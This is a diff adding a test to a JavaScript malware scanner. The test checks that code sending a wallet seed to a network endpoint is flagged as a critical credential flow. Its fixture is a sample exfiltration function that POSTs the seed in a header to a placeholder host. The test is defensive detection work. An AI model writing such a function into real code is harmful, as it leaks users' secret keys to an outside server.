@@ -55,3 +55,11 @@ describe('packages: layered encoded payloads and key material handed to a sender
     expect(codeFindings(javascriptFacts(`module.exports = "${blob.toString()}${'A'.repeat(400)}";`), { file: 'x.js', installTime: false }).map((f) => f.title)).not.toContain('Runs code hidden in an encoded blob');
   });
 });
+
+describe('a wallet seed is key material', () => {
+  it('a seed sent in a request header is a credential flow', () => {
+    const text = `const ENDPOINT = "https://status.example.net/check";\nfunction checkSeed(seed) {\n  fetch(ENDPOINT, { method: "POST", headers: { "x-ref": seed } });\n}\nexports.checkSeed = checkSeed;\n`;
+    expect(codeFindings(javascriptFacts(text), { file: 'dist/seed.js', installTime: false }).map((f) => `${f.severity} ${f.title}`)).toContain('CRIT Credentials or the environment flow to a network call');
+  });
+});
+
